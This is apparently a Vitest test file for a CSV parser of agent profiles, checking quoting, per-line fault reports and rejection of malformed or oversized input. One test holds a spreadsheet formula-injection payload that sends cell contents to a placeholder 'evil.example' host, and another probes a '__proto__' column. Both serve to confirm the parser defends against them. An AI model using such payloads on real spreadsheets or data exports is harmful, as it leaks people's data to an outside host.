import { expect, test } from 'vitest'
import { InvalidCsvError, readAgents } from './readAgents.ts'

const columns = 'name,description,tags,service:dispatch'

test('reads what a line says, quotes and breaks as CSV has them', () => {
  const csv = `\ufeff${columns}\r\nAda,"Says ""yes"",\nand no.",a b;c,https://ada.example/work\r\n\r\nEve,Tests.,,\r\n`
  expect(readAgents(csv)).toEqual([
    {
      line: 2,
      profile: {
        name: 'Ada',
        description: 'Says "yes",\nand no.',
        tags: ['a', 'b', 'c'],
        services: [{ name: 'dispatch', endpoint: 'https://ada.example/work' }],
      },
    },
    { line: 5, profile: { name: 'Eve', description: 'Tests.', tags: [] } },
  ])
})

test('behavior: faulty lines are told, the others stand', () => {
  const lines = readAgents(
    `${columns}\n,No name.,,\nAda,Fine.,,\nBob,Short.\n${'x'.repeat(200)},Long.,,\nEve,Odd tag.,a/b,\n`,
  )
  expect(lines.map((one) => ('faults' in one ? one.faults[0]?.slice(0, 14) : 'fine'))).toEqual([
    expect.stringMatching(/^name: /),
    'fine',
    'has 2 cells, n',
    expect.stringMatching(/^name: /),
    expect.stringMatching(/^tags/),
  ])
})

test('behavior: a formula is text, and stays it', () => {
  const formula = '=HYPERLINK("https://evil.example?"&A1)'
  const [line] = readAgents(`name,description\n"${formula.replaceAll('"', '""')}",+1-2@x\n`)
  expect(line).toMatchObject({ profile: { name: formula, description: '+1-2@x' } })
})

test.each([
  ['nothing', ''],
  ['no names of columns', 'Ada,Translates.\n'],
  ['an unknown column', 'name,description,__proto__\n'],
  ['a column twice', 'name,description,Name\n'],
  ['a missing column', 'name,tags\n'],
  ['an open quote', 'name,description\n"Ada,Translates.\n'],
  ['text behind a quote', 'name,description\n"Ada"x,Translates.\n'],
  ['a huge line', `name,description\nAda,${'x'.repeat(100_000)}\n`],
  ['a huge quoted cell', `name,description\n"${'x\n'.repeat(100_000)}`],
  ['too many lines', `name,description\n${'a,b\n'.repeat(10_001)}`],
])('error: %s', (_, csv) => {
  expect(() => readAgents(csv)).toThrow(InvalidCsvError)
})
